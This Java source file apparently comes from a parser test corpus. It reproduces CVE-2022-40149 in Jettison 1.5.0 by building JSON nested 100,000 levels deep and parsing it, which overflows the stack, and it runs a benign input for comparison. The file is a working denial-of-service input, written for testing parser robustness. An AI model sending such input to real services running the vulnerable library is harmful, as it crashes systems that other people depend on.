package corpus.jettison;

import corpus.CorpusDriver;
import org.codehaus.jettison.json.JSONObject;

/**
 * Jettison 1.5.0, CVE-2022-40149: objects nested without limit make {@code JSONTokener.nextValue}
 * and the {@code JSONObject(JSONTokener)} constructor recurse into each other until the stack runs
 * out (fixed in 1.5.1 by a recursion depth limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("{\"a\":", "1", "}", depth);
        CorpusDriver.run("jettison", JSONObject.class,
                () -> new JSONObject("{\"name\":\"benign\",\"items\":[1,[2,[3]]],\"map\":{\"a\":\"b\"}}"),
                () -> new JSONObject(hostile));
    }
}
